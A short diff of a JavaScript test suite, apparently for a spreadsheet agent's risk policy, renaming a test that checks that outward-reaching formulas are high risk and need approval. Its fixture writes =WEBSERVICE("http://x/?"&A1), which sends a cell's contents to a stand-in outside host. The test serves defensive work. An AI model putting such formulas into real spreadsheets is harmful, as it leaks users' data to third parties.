@@ -99,7 +99,7 @@ describe('formulas that reach outside', () => {
     expect((await client.act('write-range', write('=Rate'))).decision.riskTags).not.toContain('external_submit');
   });
 
-  it('[sheet.risk] at level control the card says so, and without a yes nothing is written', async () => {
+  it('[sheet.risk] at level control a formula that reaches outside is high risk, and without a yes nothing is written', async () => {
     await client.policy({ level: 'control' });
     try {
       const { actionId, card } = await client.pending('write-range', write('=WEBSERVICE("http://x/?"&A1)'));
